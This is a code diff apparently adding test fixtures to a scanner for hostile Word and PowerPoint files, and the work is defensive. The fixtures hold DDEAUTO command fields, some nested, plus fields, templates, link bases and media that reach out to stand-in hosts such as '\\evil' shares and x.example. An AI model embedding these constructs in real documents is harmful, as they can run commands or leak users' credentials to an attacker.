@@ -58,6 +58,34 @@ function containers() {
   });
 }
 
+/** Names of files that belong to the document, with its template. */
+function associatedStrings(template: string): Buffer {
+  const [head, length] = [Buffer.from([0xff, 0xff, 2, 0, 0, 0, 0, 0]), Buffer.alloc(2)];
+  length.writeUInt16LE(template.length);
+  return Buffer.concat([head, length, utf16(template)]);
+}
+
+/** Properties of a document with a base of relative links. */
+function linkBase(base: string) {
+  const name = '_PID_LINKBASE\0';
+  const value = utf16(`${base}\0`);
+  const section = Buffer.alloc(24 + 12 + name.length + 8);
+  const at = 24 + 12 + name.length;
+  // The size, two properties with their offsets; the dictionary with one name; a blob.
+  for (const [index, word] of [section.length + value.length, 2, 0, 24, 2, at].entries())
+    section.writeUInt32LE(word, 4 * index);
+  for (const [index, word] of [1, 2, name.length].entries())
+    section.writeUInt32LE(word, 24 + 4 * index);
+  section.write(name, 36, 'latin1');
+  section.writeUInt32LE(0x41, at);
+  section.writeUInt32LE(value.length, at + 4);
+  const head = Buffer.alloc(68);
+  head.writeUInt32LE(2, 24);
+  head.writeUInt32LE(68, 64);
+  const data = Buffer.concat([head, section, value]);
+  return { name: '\u0005DocumentSummaryInformation', data };
+}
+
 const documents = () =>
   hostileFilesOf('doc', {
     macro: {
@@ -77,9 +105,31 @@ const documents = () =>
       'a wrong identifier': doc({ identity: 0x1234 }),
       'text outside the stream': doc({ pieceEnd: 0x00ffffff }),
     },
-    'dynamic-data': { DDE: doc({ text: 'a \u0013 DDEAUTO cmd \u0014 b \u0015' }) },
+    'dynamic-data': {
+      DDE: doc({ text: 'a \u0013 DDEAUTO cmd \u0014 b \u0015' }),
+      'DDE in another field': doc({ text: '\u0013 IF \u0013 DDEAUTO cmd \u0015 = 1 \u0015' }),
+      'a field whose kind another field computes': doc({
+        text: '\u0013\u0013 REF a \u0015 cmd \u0015',
+      }),
+    },
     'external-content': {
       'a text from the web': doc({ text: '\u0013 INCLUDETEXT "http://x.example" \u0015' }),
+      'a picture from the web': doc({ text: '\u0013 INCLUDEPICTURE "http://x.example" \u0015' }),
+      'a picture at an address that another field computes': doc({
+        text: '\u0013 INCLUDEPICTURE \u0013 REF a \u0014 b \u0015 \u0015',
+      }),
+      'a picture from a share, after a field': doc({
+        text: '\u0013 INCLUDEPICTURE \u0013 PAGE \u0014 1 \u0015 "\\\\\\\\evil\\\\a.png" \u0015',
+      }),
+      'a template from the web': doc({
+        strings: associatedStrings('http://x.example/a.dot'),
+      }),
+      'a template from a share': doc({ strings: associatedStrings('\\\\evil\\a.dot') }),
+      'a base of its links on a share': doc({ more: [linkBase('\\\\evil\\x')] }),
+      'an object that is elsewhere': withObject({
+        name: '\u0001Ole',
+        data: Buffer.from([1, 0, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0]),
+      }),
     },
     'embedded-file': { 'a packaged program': withObject(packagedProgram) },
     'active-control': { 'a control': withObject({ name: '\u0003OCXNAME', data: utf16('a') }) },
@@ -143,6 +193,17 @@ function presentations() {
     bomb: { 'a compressed object of 40 MB': after(compressedObject(Buffer.alloc(40 * mib))) },
     'launches-program': { 'a click that starts a program': after(interaction(2)) },
     'unsafe-link': { 'a link to a share': inside(link) },
+    'external-content': {
+      'a film on a share': inside(
+        pptRecord(0x0409, [pptRecord(0x1005, [pptRecord(0x0fba, utf16('\\\\evil\\a.avi'))])]),
+      ),
+      'a sound on the web': inside(
+        pptRecord(0x0409, [
+          pptRecord(0x1010, [pptRecord(0x0fba, utf16('http://x.example/a.wav'))]),
+        ]),
+      ),
+      'a base of its links on the web': ppt({ more: [linkBase('http://x.example')] }),
+    },
     'active-control': { 'a control': inside(pptRecord(0x0409, [pptRecord(0x0fee, [])])) },
     encrypted: { 'a password': ppt({ token: 0xf3d1c4df }) },
     malformed: {
